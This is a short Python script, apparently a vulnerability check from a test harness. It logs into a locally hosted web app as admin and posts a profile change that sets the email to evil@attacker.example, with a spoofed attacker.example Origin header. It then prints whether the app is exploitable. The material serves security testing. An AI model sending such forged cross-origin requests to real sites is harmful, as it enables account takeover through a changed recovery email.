import os
import sys
import time
import traceback

import httpx

BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
c = httpx.Client(base_url=BASE, timeout=60)


def _fail(t, v, tb):
    traceback.print_exception(t, v, tb)
    os._exit(2)


sys.excepthook = _fail


def done(hit):
    print("exploitable" if hit else "not exploitable")
    sys.exit(0 if hit else 1)


import re

t = re.search(r'name="csrf" value="([0-9a-f]+)"', c.get("/login").text)[1]
c.post("/login", data={"name": "admin", "password": os.environ["CLUB_ADMIN_PASSWORD"], "csrf": t})
r = c.post("/me", data={"email": "evil@attacker.example", "phone": ""}, headers={"Origin": "https://attacker.example"})
done("evil@attacker.example" in c.get("/me").text)
